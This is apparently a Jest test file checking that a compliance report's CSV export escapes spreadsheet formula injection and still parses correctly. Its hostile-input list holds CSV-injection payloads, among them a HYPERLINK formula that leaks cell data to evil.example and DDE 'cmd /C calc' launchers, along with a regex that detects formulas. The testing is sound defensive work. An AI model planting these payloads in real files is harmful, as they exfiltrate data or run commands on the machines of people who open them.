// compliance.csv through csv-stringify (src/core/text/report-cells.ts): hostile host text cannot
// become a formula in a spreadsheet, and the file reads back, cell for cell, with csv-parse (the
// maintained reader of the same project) as well as with the strict RFC 4180 reading of
// compliance-formats.test.ts. See docs/security.md ("Host text").
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { riskInputs } from '../core/report/__fixtures__/risk-fleet.js';
import { buildComplianceReport } from '../core/report/compliance.js';
import type { ComplianceReport } from '../core/report/types.js';
import { CSV_COLUMNS, renderComplianceCsv } from './compliance-csv.js';

/** What a host, a package repository or a pull request could put into a report's text. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u3000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'a,"quoted"\r\nnext line',
] as const;

/** Would a spreadsheet read this cell as a formula? (Also after leading blanks.) */
const FORMULA = /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

function hostileReport(): ComplianceReport {
  const report = structuredClone(buildComplianceReport(riskInputs()));
  let n = 0;
  const next = (): string => HOSTILE[n++ % HOSTILE.length]!;
  for (const h of report.hosts) {
    h.reason = next();
    h.groups = [next()];
    for (const m of h.missing) {
      m.package = next();
      m.detail = next();
      m.ageDays = -3;
    }
    for (const e of h.excepted) {
      e.package = next();
      e.exception = next();
    }
  }
  return report;
}

describe('compliance.csv with hostile text', () => {
  const report = hostileReport();
  const csv = renderComplianceCsv(report);
  // Any line break outside quotes ends a record, as in a spreadsheet's import.
  const rows = parse(csv, { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
  const [header, ...records] = rows;

  it('reads back with csv-parse: the header, one record per row, every field in its column', () => {
    expect(header).toEqual([...CSV_COLUMNS]);
    const expected = report.hosts.reduce(
      (sum, h) => sum + Math.max(1, h.missing.length + h.excepted.length),
      0,
    );
    expect(records).toHaveLength(expected);
    for (const r of records) expect(r).toHaveLength(CSV_COLUMNS.length);
  });

  it('has no text cell a spreadsheet would run, and each hostile value behind one apostrophe', () => {
    const numeric = new Set(['host_row', 'age_days', 'overdue_days']);
    const seen = new Set<string>();
    for (const r of records) {
      CSV_COLUMNS.forEach((column, i) => {
        const cell = r[i]!;
        if (numeric.has(column)) return;
        expect([column, cell, FORMULA.test(cell)]).toEqual([column, cell, false]);
        if (cell.startsWith("'")) seen.add(cell.slice(1));
      });
    }
    for (const value of HOSTILE.filter((v) => FORMULA.test(v) || /^\s+[=+\-@]/.test(v)))
      expect([value, seen.has(value)]).toEqual([value, true]);
  });

  it('keeps numbers as numbers: a negative age is -3, not text', () => {
    const ages = records.map((r) => r[CSV_COLUMNS.indexOf('age_days')]).filter((a) => a !== '');
    expect(ages.length).toBeGreaterThan(0);
    expect(new Set(ages)).toEqual(new Set(['-3']));
  });

  it('keeps quotes, commas and line breaks as data', () => {
    const reasons = records.map((r) => r[CSV_COLUMNS.indexOf('reason')]);
    expect(reasons).toContain('a,"quoted"\r\nnext line');
  });
});
